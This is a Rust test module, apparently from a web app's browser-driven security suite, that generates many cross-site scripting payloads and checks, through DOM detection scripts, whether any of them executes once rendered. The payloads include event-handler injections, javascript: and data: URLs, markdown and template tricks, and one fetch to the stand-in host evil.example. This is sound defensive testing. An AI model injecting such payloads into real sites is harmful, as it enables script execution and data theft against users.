//! The texts, and how it is seen that one of them did more than to be shown.

use crate::look::noise;
use crate::site::Site;
use serde_json::Value;
use testkit::browser::Browser;

/// Every way in combined with every way to act; each would leave a mark on the window, open a dialog or ask for an address
/// outside. All carry the word by which the pages that show them are found.
pub(super) fn texts() -> Vec<String> {
    let acts =
        ["window.__ran=1", "alert('__ran')", "top['__ran']=1", "eval('__ran=1')", "fetch('//evil.example/'+(__ran=1))"];
    let mut texts = Vec::new();
    for act in acts {
        for tag in [
            "img src=x",
            "svg",
            "body",
            "input autofocus",
            "details open",
            "video src=x",
            "iframe",
            "marquee",
            "select autofocus",
            "audio src=x",
        ] {
            for event in
                ["onerror", "onload", "onfocus", "ontoggle", "onstart", "ONMOUSEOVER", "on\u{200b}load", "onpageshow"]
            {
                texts.push(format!("<{tag} {event}=\"{act}\">"));
            }
        }
        for whole in [
            "<script>{}</script>",
            "<ScRiPt>{}</sCrIpT>",
            "<script src=data:text/javascript,{}></script>",
            "</textarea><script>{}</script>",
            "</title><script>{}</script>",
            "\"><script>{}</script>",
            "'><svg onload={}>",
            "\" autofocus onfocus={} x=\"",
            "<a href=\"javascript:{}\">x</a>",
            "[x](javascript:{})",
            "[x](JaVaScRiPt:{})",
            "[x](data:text/html,<script>{}</script>)",
            "![x](x\"onerror=\"{})",
            "<svg><script>{}</script></svg>",
            "<math><mtext><script>{}</script></mtext></math>",
            "<style>@import 'javascript:{}';</style>",
            "<meta http-equiv=refresh content='0;url=javascript:{}'>",
            "<object data='javascript:{}'></object>",
            "<form action='javascript:{}'><button>x</button></form>",
            "<!--<img src='--><img src=x onerror={}>",
            "`<img src=x onerror={}>`",
            "<svg><animate onbegin={} attributeName=x dur=1s>",
            "<a href='&#106;avascript:{}'>x</a>",
            "{{{{{}}}}}",
            "${{{}}}",
        ] {
            texts.push(whole.replace("{}", act));
        }
    }
    texts
}

/// Scripts, handlers and frames that no page of ours has.
pub(super) const BORN: &str = "const found = [];
    if (typeof window.__ran !== 'undefined') found.push('a script ran');
    for (const one of document.scripts) if (!one.src.startsWith(location.origin + '/assets/') || one.textContent.trim()) found.push('a script element');
    for (const one of document.querySelectorAll('iframe, object, embed, base, style, marquee, audio, video, math, meta[http-equiv], animate'))
        found.push('an element ' + one.tagName);
    for (const one of document.querySelectorAll('*')) for (const a of one.attributes) {
        if (/^on/i.test(a.name)) found.push('a handler ' + a.name + ' of ' + one.tagName);
        if (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value)
            && !(one.tagName === 'IMG' || one.tagName === 'LINK')) found.push('an address ' + a.value.slice(0, 40));
    }
    return found;";

/// Whether a field or the page shows one of the texts.
pub(super) const SHOWN: &str = "const main = document.querySelector('main') || document.body;
    return main.textContent.includes('__ran') || [...main.querySelectorAll('input, textarea')].some(one => one.value.includes('__ran'));";

/// What a text did to the page that shows it; an empty list when it is shown and nothing more.
pub(super) fn harm(browser: &Browser, site: &Site) -> Vec<String> {
    let mut found = Vec::new();
    if browser.dialog() {
        found.push("a dialog".to_owned());
    }
    let born = browser.run(BORN, Vec::new());
    found.extend(born.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned));
    found.extend(noise(browser, site));
    found
}
